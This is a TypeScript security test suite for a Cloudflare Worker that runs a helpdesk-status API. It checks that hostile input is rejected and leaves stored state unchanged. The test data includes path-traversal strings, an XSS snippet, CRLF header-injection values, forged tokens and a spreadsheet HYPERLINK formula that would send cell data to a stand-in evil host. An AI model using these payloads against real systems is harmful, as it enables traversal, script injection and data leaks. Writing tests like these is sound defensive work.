/**
 * Hostile input against the real Worker, KV and Durable Objects: each attempt gets the documented
 * error and leaves the branch exactly as it was (snapshot version, figures, chats and KV records).
 */
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import {
  ADMIN_TOKEN,
  type TestBranch,
  admin,
  alteredSecret,
  branchFingerprint,
  call,
  event,
  postEvents,
  provisionBranch,
  push,
  readStatus,
  statusPath,
  uniqueName,
} from "./helpers";

const MiB = 1024 * 1024;
const branchPath = (b: { empresa: string; sucursal: string }) => `/empresas/${b.empresa}/sucursales/${b.sucursal}`;

/** A branch with some live state, so "nothing changed" is checked against something. */
async function branchWithState(): Promise<TestBranch> {
  const branch = await provisionBranch();
  await push(
    branch,
    event(branch, "chat.actualizado", { id_resumen: 1, nombre_cliente: "Ana", departamento: "Ventas", agente: "luis" }, 3),
    event(branch, "chat.actualizado", { id_resumen: 2, estado: "pendiente", nombre_cliente: "Beto" }, 2),
    event(branch, "chat.mensaje_agente", { id_resumen: 1 }, 1),
  );
  return branch;
}

/**
 * Runs each attempt, expects the status and a JSON `message` from every one, and that the branch
 * did not change over all of them.
 */
async function expectRejectedUnchanged(
  branch: TestBranch,
  attempts: (() => Promise<Response>) | (() => Promise<Response>)[],
  status: number | number[],
  message?: string | RegExp,
): Promise<Record<string, unknown>> {
  const before = await branchFingerprint(branch);
  let body: Record<string, unknown> = {};
  for (const attempt of [attempts].flat()) {
    const response = await attempt();
    expect([status].flat()).toContain(response.status);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
    body = (await response.json()) as Record<string, unknown>;
    expect(typeof body.message).toBe("string");
    if (typeof message === "string") expect(body.message).toBe(message);
    else if (message) expect(body.message).toMatch(message);
  }
  expect(await branchFingerprint(branch)).toEqual(before);
  return body;
}

function rawPost(key: string, body: BodyInit | null, headers: Record<string, string> = {}) {
  return call("/v1/events", { method: "POST", headers: { Authorization: `Bearer ${key}`, ...headers }, body });
}

/** A valid batch padded past `bytes` with a long unknown field. */
function paddedBatch(branch: TestBranch, bytes: number): string {
  return JSON.stringify({ eventos: [event(branch, "chat.actualizado", { id_resumen: 9 })], relleno: "x".repeat(bytes) });
}

function chunkedStream(text: string, chunk = 64 * 1024): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  let offset = 0;
  return new ReadableStream({
    pull(controller) {
      if (offset >= bytes.byteLength) return controller.close();
      controller.enqueue(bytes.slice(offset, offset + chunk));
      offset += chunk;
    },
  });
}

describe("ingestion: malformed bodies", () => {
  it("answers 400 to a body that is not JSON, in any of its forms", async () => {
    const branch = await branchWithState();
    const valid = JSON.stringify({ eventos: [event(branch, "chat.actualizado", { id_resumen: 9 })] });
    const bodies = ["", "{", valid.slice(0, -1), `${valid}}`, "nul", "{'eventos': []}", "[1,]", "\u0000"];
    await expectRejectedUnchanged(branch, bodies.map((body) => () => postEvents(branch.key, body)), 400, "El cuerpo no es JSON válido");
  });

  it("answers 400 to bytes that are not UTF-8", async () => {
    const branch = await branchWithState();
    const bytes = new Uint8Array([0x7b, 0x22, 0x69, 0x64, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]);
    await expectRejectedUnchanged(branch, () => rawPost(branch.key, bytes, { "Content-Type": "application/json" }), 400, "El cuerpo no es JSON válido");
  });

  it("answers 400 to JSON values that are not an event or a batch", async () => {
    const branch = await branchWithState();
    const bodies = ["null", "42", '"texto"', "[]", "{}", '{"eventos": {}}', '{"eventos": null}', '{"__proto__": {"eventos": []}}'];
    await expectRejectedUnchanged(branch, bodies.map((body) => () => postEvents(branch.key, body)), 400);
  });

  it("answers 415 to any content type but application/json, the key being valid", async () => {
    const branch = await branchWithState();
    const body = JSON.stringify(event(branch, "chat.actualizado", { id_resumen: 9 }));
    const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json", "application/jsonx", "application/json-patch+json", "text/html; application/json"];
    await expectRejectedUnchanged(
      branch,
      [...types.map((type) => () => rawPost(branch.key, body, { "Content-Type": type })), () => rawPost(branch.key, new TextEncoder().encode(body))],
      415,
      "Content-Type debe ser application/json",
    );
  });

  it("checks the key before the content type", async () => {
    const branch = await branchWithState();
    await expectRejectedUnchanged(branch, () => rawPost("hk_0000000000000000_wrongwrongwrongwrongwrong", "x", { "Content-Type": "text/plain" }), 401, "Unauthorized");
  });
});

describe("ingestion: size limits", () => {
  it("answers 413 to a body over 1 MiB that declares its length", async () => {
    const branch = await branchWithState();
    const body = paddedBatch(branch, MiB);
    await expectRejectedUnchanged(branch, () => postEvents(branch.key, body), 413, "El cuerpo supera el máximo de 1 MiB");
  });

  it("answers 413 to a streamed body over 1 MiB with no Content-Length", async () => {
    const branch = await branchWithState();
    const body = paddedBatch(branch, 3 * MiB);
    // A stream of unknown length: the request carries no Content-Length, so the limit is counted.
    const attempt = () =>
      call("/v1/events", {
        method: "POST",
        headers: { Authorization: `Bearer ${branch.key}`, "Content-Type": "application/json" },
        body: chunkedStream(body),
      });
    await expectRejectedUnchanged(branch, attempt, 413, "El cuerpo supera el máximo de 1 MiB");
  });

  it("answers 400 to more than 1000 events, applying none", async () => {
    const branch = await branchWithState();
    const eventos = Array.from({ length: 1001 }, (_, i) => event(branch, "chat.actualizado", { id_resumen: 100 + i }));
    await expectRejectedUnchanged(branch, () => postEvents(branch.key, { eventos }), 400, /1000/);
  });

  it("rejects a batch of 1000 whose last event is invalid, applying none of the 999 valid ones", async () => {
    const branch = await branchWithState();
    const eventos: unknown[] = Array.from({ length: 999 }, (_, i) => event(branch, "chat.actualizado", { id_resumen: 100 + i }));
    eventos.push({ ...event(branch, "chat.actualizado", { id_resumen: 5 }), tipo: "chat.borrado" });
    const body = await expectRejectedUnchanged(branch, () => postEvents(branch.key, { eventos }), 400, "Eventos inválidos");
    expect(body.errores).toEqual([expect.objectContaining({ indice: 999, campo: "tipo" })]);
  });

  it("answers 400 to deeply nested JSON, in the body and inside a field", async () => {
    const branch = await branchWithState();
    const depth = 100_000;
    const deepArray = `${"[".repeat(depth)}${"]".repeat(depth)}`;
    await expectRejectedUnchanged(branch, () => postEvents(branch.key, `{"eventos": ${deepArray}}`), 400);
    const deepObject = `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
    const single = JSON.stringify(event(branch, "chat.actualizado", { id_resumen: 9 })).replace('"id_resumen":9', `"id_resumen":9,"nombre_cliente":${deepObject}`);
    await expectRejectedUnchanged(branch, () => postEvents(branch.key, single), 400);
  });
});

describe("ingestion: overlong and out-of-range fields", () => {
  const cases: [string, Record<string, unknown>, Record<string, unknown>][] = [
    ["id", { id: "e".repeat(201) }, {}],
    ["id", { id: "" }, {}],
    ["empresa", { empresa: "e".repeat(65) }, {}],
    ["sucursal", { sucursal: "../../etc/passwd" }, {}],
    ["sucursal", { sucursal: "a%2F..%2Fb" }, {}],
    ["chat.nombre_cliente", {}, { nombre_cliente: "n".repeat(513) }],
    ["chat.id_resumen", {}, { id_resumen: 2 ** 53 }],
    ["chat.id_resumen", {}, { id_resumen: -1 }],
    ["chat.id_resumen", {}, { id_resumen: 1.5 }],
    ["chat.id_resumen", {}, { id_resumen: "1" }],
    ["chat.estado", {}, { estado: "cerrado" }],
    ["ocurrido_en", { ocurrido_en: "2026-13-45T99:00:00Z" }, {}],
    ["ocurrido_en", { ocurrido_en: new Date(Date.now() + 3_600_000).toISOString() }, {}],
  ];
  for (const [campo, top, chat] of cases) {
    it(`rejects ${campo} = ${JSON.stringify({ ...top, ...chat }).slice(0, 60)} with a field error`, async () => {
      const branch = await branchWithState();
      const base = event(branch, "chat.actualizado", { id_resumen: 7, ...chat });
      const body = await expectRejectedUnchanged(branch, () => postEvents(branch.key, { eventos: [{ ...base, ...top }] }), 400, "Eventos inválidos");
      const errores = body.errores as { indice: number; campo: string }[];
      expect(errores.length).toBeGreaterThan(0);
      for (const error of errores) expect(error).toMatchObject({ indice: 0, campo });
    });
  }
});

describe("ingestion: unicode and markup are data", () => {
  const names = {
    emoji: "Ana 👩🏽‍💻🇻🇪",
    rtl: "\u202eAna\u202c مرحبا שלום",
    nul: "Ana\u0000Beto",
    combining: "A\u0301\u0301\u0301na",
    html: '<script>alert("x")</script><img src=x onerror=alert(1)>',
    csv: '=HYPERLINK("https://evil.example/?x="&A1,"clic")',
    crlf: "Ana\r\nSet-Cookie: pwned=1",
  };
  for (const [kind, nombre] of Object.entries(names)) {
    it(`stores and serves a ${kind} name verbatim in JSON`, async () => {
      const branch = await provisionBranch();
      await push(branch, event(branch, "chat.actualizado", { id_resumen: 1, nombre_cliente: nombre, agente: nombre, departamento: nombre }));
      const response = await call(statusPath(branch));
      expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
      expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
      expect(response.headers.get("Set-Cookie")).toBeNull();
      const body = (await response.json()) as any;
      expect(body.detalle_por_tiempo_espera.menos_10_minutos[0].nombre_cliente).toBe(nombre);
      expect(body.carga_por_agente[0].agente).toBe(nombre);
      expect(Object.keys(body.por_departamento)).toEqual([nombre]);
    });
  }

  it("keeps lone surrogates sent as JSON escapes", async () => {
    const branch = await provisionBranch();
    const text = JSON.stringify(event(branch, "chat.actualizado", { id_resumen: 1, nombre_cliente: "PLACEHOLDER" })).replace("PLACEHOLDER", "a\\ud800b\\udfff");
    expect((await postEvents(branch.key, text)).status).toBe(200);
    const body = await readStatus(branch);
    expect(body.detalle_por_tiempo_espera.menos_10_minutos[0].nombre_cliente).toBe("a\ud800b\udfff");
  });

  it("keeps event ids with lone surrogates or NUL distinct, and idempotent on retry", async () => {
    const branch = await provisionBranch();
    const raw = (id: number, escapedId: string) =>
      JSON.stringify(event(branch, "chat.actualizado", { id_resumen: id }, 1, "PLACEHOLDER")).replace("PLACEHOLDER", escapedId);
    const bodies = [raw(1, "evt-\\ud800"), raw(2, "evt-\\ud801"), raw(3, "evt-\\ufffd"), raw(4, "evt-\\u0000a"), raw(5, "evt-\\u0000b")];
    for (const body of bodies) {
      expect(await (await postEvents(branch.key, body)).json()).toEqual({ aceptados: 1, duplicados: 0, obsoletos: 0 });
    }
    for (const body of bodies) {
      expect(await (await postEvents(branch.key, body)).json()).toEqual({ aceptados: 0, duplicados: 1, obsoletos: 0 });
    }
    expect((await readStatus(branch)).resumen_general.chat_abiertos).toBe(5);
  });

  it("counts departments named like Object.prototype members as ordinary departments", async () => {
    const branch = await provisionBranch();
    const other = await provisionBranch();
    await push(other, event(other, "chat.actualizado", { id_resumen: 1, departamento: "Ventas" }));
    const names = ["__proto__", "constructor", "toString", "hasOwnProperty"];
    await push(branch, ...names.map((departamento, i) => event(branch, "chat.actualizado", { id_resumen: i + 1, departamento })));
    const body = await readStatus(branch);
    expect(body.por_departamento).toEqual(Object.fromEntries(names.map((name) => [name, { chat_abiertos: 1, chat_esperando: 1 }])));
    expect(({} as Record<string, unknown>).chat_abiertos).toBeUndefined();
    expect((await readStatus(other)).por_departamento).toEqual({ Ventas: { chat_abiertos: 1, chat_esperando: 1 } });
  });
});

describe("path traversal in empresa and sucursal", { timeout: 30_000 }, () => {
  it("answers 400 on the status route for traversal in the query, plain or URL-encoded", async () => {
    const branch = await branchWithState();
    const attempts = [
      `empresa=..%2F${branch.empresa}&sucursal=${branch.sucursal}`,
      `empresa=%2e%2e&sucursal=${branch.sucursal}`,
      `empresa=${branch.empresa}&sucursal=..%2F..%2F${branch.sucursal}`,
      `empresa=${branch.empresa}%2F..&sucursal=${branch.sucursal}`,
      `empresa=${branch.empresa}&sucursal=${branch.sucursal}%00`,
      `empresa=${branch.empresa}&sucursal=${branch.sucursal}%2F..%2F..%2Fotra`,
      `empresa=${branch.empresa}&sucursal=%252e%252e`,
    ];
    await expectRejectedUnchanged(
      branch,
      attempts.map((query) => () => call(`/helpdesk-status/?token=${branch.token}&${query}`)),
      400,
      /^Parámetro inválido: (empresa|sucursal)$/,
    );
  });

  it("answers 400 or 404 on admin routes for traversal in the path, writing nothing", async () => {
    const branch = await branchWithState();
    const { empresa, sucursal } = branch;
    const paths = [
      `/empresas/..%2F${empresa}/sucursales/${sucursal}`,
      `/empresas/${empresa}/sucursales/..%2F${sucursal}`,
      `/empresas/${empresa}/sucursales/${sucursal}%2F..%2Fotra`,
      `/empresas/%2e%2e/${empresa}/sucursales/${sucursal}`,
      `/empresas/${empresa}%00/sucursales/${sucursal}`,
    ];
    const attempts = paths.flatMap((path) =>
      ["PUT", "DELETE", "GET"].map((method) => () => admin(method, path, method === "PUT" ? { nombre: "pwned" } : undefined)),
    );
    await expectRejectedUnchanged(branch, attempts, [400, 404], /^(Parámetro inválido: (empresa|sucursal)|Recurso no encontrado)$/);
    expect((await env.CONFIG.list({ prefix: "sucursal:.." })).keys).toEqual([]);
  });

  it("answers 400 on the reconciliation route for traversal in the path, keeping the chats", async () => {
    const branch = await branchWithState();
    const body = JSON.stringify({ tomado_en: new Date().toISOString(), chats: [], cerrados_hoy: 0 });
    const paths = [`/v1/empresas/..%2F${branch.empresa}/sucursales/${branch.sucursal}/chats`, `/v1/empresas/${branch.empresa}/sucursales/..%2F${branch.sucursal}/chats`];
    await expectRejectedUnchanged(
      branch,
      paths.map((path) => () => call(path, { method: "PUT", headers: { Authorization: `Bearer ${branch.key}`, "Content-Type": "application/json" }, body })),
      400,
      /^Parámetro inválido: (empresa|sucursal)$/,
    );
  });
});

describe("header injection", () => {
  it("never reflects CR/LF from the query into a response header", async () => {
    const branch = await branchWithState();
    const injected = "%0d%0aSet-Cookie:%20pwned=1%0d%0aX-Injected:%201";
    for (const query of [
      `token=${branch.token}${injected}&empresa=${branch.empresa}&sucursal=${branch.sucursal}`,
      `token=${branch.token}&empresa=${branch.empresa}${injected}&sucursal=${branch.sucursal}`,
      `token=${branch.token}&empresa=${branch.empresa}&sucursal=${branch.sucursal}&detalle=${injected}`,
    ]) {
      const response = await call(`/helpdesk-status/?${query}`);
      expect(response.status).not.toBe(500);
      expect(response.headers.get("Set-Cookie")).toBeNull();
      expect(response.headers.get("X-Injected")).toBeNull();
      for (const [, value] of response.headers) expect(value).not.toMatch(/pwned/);
    }
  });

  it("keeps CR/LF in a token label as data", async () => {
    const branch = await provisionBranch();
    const etiqueta = "monitor\r\nSet-Cookie: pwned=1";
    const created = await admin("POST", `${branchPath(branch)}/tokens`, { etiqueta });
    expect(created.status).toBe(201);
    expect(created.headers.get("Set-Cookie")).toBeNull();
    const shown = await (await admin("GET", branchPath(branch))).json<{ tokens: { etiqueta: string | null }[] }>();
    expect(shown.tokens.map((t) => t.etiqueta)).toContain(etiqueta);
  });
});

describe("read tokens", { timeout: 30_000 }, () => {
  function oneCharOff(token: string, index: number): string {
    const replacement = token[index] === "A" ? "B" : "A";
    return token.slice(0, index) + replacement + token.slice(index + 1);
  }

  it("refuses tokens that differ from a valid one in a single character, anywhere", async () => {
    const branch = await branchWithState();
    const t = branch.token;
    const variants = [0, Math.floor(t.length / 2), t.length - 1].map((i) => oneCharOff(t, i));
    variants.push(t.slice(0, -1), `${t}A`, `${t}\u0000`, t.toUpperCase() === t ? t.toLowerCase() : t.toUpperCase());
    const inQuery = [...variants, ` ${t}`].map((token) => () => call(statusPath({ ...branch, token })));
    // In the header form, whitespace around the token is the header's syntax, and NUL cannot be sent.
    const inHeader = variants
      .filter((v) => !v.includes("\u0000"))
      .map((token) => () => call(`/helpdesk-status/?empresa=${branch.empresa}&sucursal=${branch.sucursal}`, { headers: { Authorization: `Bearer ${token}` } }));
    await expectRejectedUnchanged(branch, [...inQuery, ...inHeader], 401, "Unauthorized: Token no válido");
  });

  it("refuses another branch's token, even of the same empresa", async () => {
    const branch = await branchWithState();
    const sibling = await provisionBranch({}, branch.empresa);
    await expectRejectedUnchanged(branch, () => call(statusPath({ ...branch, token: sibling.token })), 401, "Unauthorized: Token no válido");
  });

  it("refuses a revoked token while the other token keeps working", async () => {
    const branch = await branchWithState();
    const second = await (await admin("POST", `${branchPath(branch)}/tokens`, {})).json<{ token: string }>();
    expect((await admin("DELETE", `${branchPath(branch)}/tokens/${branch.tokenId}`)).status).toBe(204);
    const reader = { ...branch, token: second.token };
    await expectRejectedUnchanged(reader, () => call(statusPath(branch)), 401, "Unauthorized: Token no válido");
  });

  it("refuses the ingest key and the ADMIN_TOKEN as read tokens", async () => {
    const branch = await branchWithState();
    await expectRejectedUnchanged(branch, [branch.key, ADMIN_TOKEN].map((token) => () => call(statusPath({ ...branch, token }))), 401);
  });
});

describe("ingest keys", () => {
  it("answers 403 to another empresa's key, applying nothing", async () => {
    const branch = await branchWithState();
    const stranger = await provisionBranch();
    await expectRejectedUnchanged(
      branch,
      () => postEvents(stranger.key, { eventos: [event(branch, "chat.cerrado", { id_resumen: 1 })] }),
      403,
      "La clave de ingesta no pertenece a la empresa de la sucursal",
    );
  });

  it("answers 403 to a batch that mixes its own branch with another empresa's, applying neither", async () => {
    const branch = await branchWithState();
    const stranger = await branchWithState();
    const before = await branchFingerprint(stranger);
    await expectRejectedUnchanged(
      branch,
      () => postEvents(stranger.key, { eventos: [event(stranger, "chat.cerrado", { id_resumen: 1 }), event(branch, "chat.cerrado", { id_resumen: 1 })] }),
      403,
    );
    expect(await branchFingerprint(stranger)).toEqual(before);
  });

  it("answers 404 to a batch naming an unknown branch of its empresa, applying none of it", async () => {
    const branch = await branchWithState();
    await expectRejectedUnchanged(
      branch,
      () => postEvents(branch.key, { eventos: [event(branch, "chat.cerrado", { id_resumen: 1 }), event({ ...branch, sucursal: uniqueName("nope") }, "chat.cerrado", { id_resumen: 1 })] }),
      404,
    );
  });

  it("answers 403 to another empresa's key on reconciliation, keeping the chats", async () => {
    const branch = await branchWithState();
    const stranger = await provisionBranch();
    const body = JSON.stringify({ tomado_en: new Date().toISOString(), chats: [], cerrados_hoy: 0 });
    await expectRejectedUnchanged(
      branch,
      () => call(`/v1${branchPath(branch)}/chats`, { method: "PUT", headers: { Authorization: `Bearer ${stranger.key}`, "Content-Type": "application/json" }, body }),
      403,
    );
  });

  it("answers 401 to a key with the right id and a wrong secret, a revoked key, and other secrets", async () => {
    const branch = await branchWithState();
    const revoked = await provisionBranch({}, branch.empresa);
    expect((await admin("DELETE", `/empresas/${branch.empresa}/claves-ingesta/${revoked.key.split("_")[1]}`)).status).toBe(204);
    const keys = [alteredSecret(branch.key), revoked.key, branch.token, ADMIN_TOKEN, "hk_../../x_aaaaaaaaaaaaaaaaaaaaaaaa", ""];
    const body = { eventos: [event(branch, "chat.cerrado", { id_resumen: 1 })] };
    await expectRejectedUnchanged(branch, keys.map((key) => () => postEvents(key, body)), 401, "Unauthorized");
  });
});

describe("admin routes without the ADMIN_TOKEN", { timeout: 30_000 }, () => {
  const wrongHeaders: Record<string, string>[] = [
    {},
    { Authorization: "Bearer " },
    { Authorization: "Bearer wrong-admin-token" },
    { Authorization: `Bearer ${ADMIN_TOKEN.slice(0, -1)}X` },
    { Authorization: `Bearer ${ADMIN_TOKEN}x` },
    { Authorization: ADMIN_TOKEN },
    { Authorization: `Basic ${btoa(`admin:${ADMIN_TOKEN}`)}` },
    { Authorization: `Bearer ${ADMIN_TOKEN} ${ADMIN_TOKEN}` },
  ];

  const calls: [string, (b: TestBranch) => string, unknown?][] = [
    ["PUT", (b) => branchPath(b), { nombre: "pwned" }],
    ["PUT", (b) => `/empresas/${b.empresa}/sucursales/nueva`, {}],
    ["GET", (b) => branchPath(b)],
    ["DELETE", (b) => branchPath(b)],
    ["POST", (b) => `${branchPath(b)}/tokens`, { token: "attacker-chosen-token-1234" }],
    ["DELETE", (b) => `${branchPath(b)}/tokens/${b.tokenId}`],
    ["POST", (b) => `/empresas/${b.empresa}/claves-ingesta`, {}],
    ["DELETE", (b) => `/empresas/${b.empresa}/claves-ingesta/${b.key.split("_")[1]}`],
  ];
  for (const [method, path, body] of calls) {
    it(`answers 401 to ${method} ${path({ empresa: "{e}", sucursal: "{s}", tokenId: "{id}", key: "hk_{id}_x" } as TestBranch)} and changes nothing`, async () => {
      const branch = await branchWithState();
      const attempts = wrongHeaders.map((headers) => () =>
        call(`/v1/admin${path(branch)}`, {
          method,
          headers: { ...headers, "Content-Type": "application/json" },
          body: body === undefined ? undefined : JSON.stringify(body),
        }),
      );
      await expectRejectedUnchanged(branch, attempts, 401, "Unauthorized");
      expect((await call(statusPath({ ...branch, token: "attacker-chosen-token-1234" }))).status).toBe(401);
    });
  }

  it("does not take the ADMIN_TOKEN from the query string", async () => {
    const branch = await branchWithState();
    await expectRejectedUnchanged(branch, () => call(`/v1/admin${branchPath(branch)}?token=${ADMIN_TOKEN}`, { method: "DELETE" }), 401, "Unauthorized");
  });
});
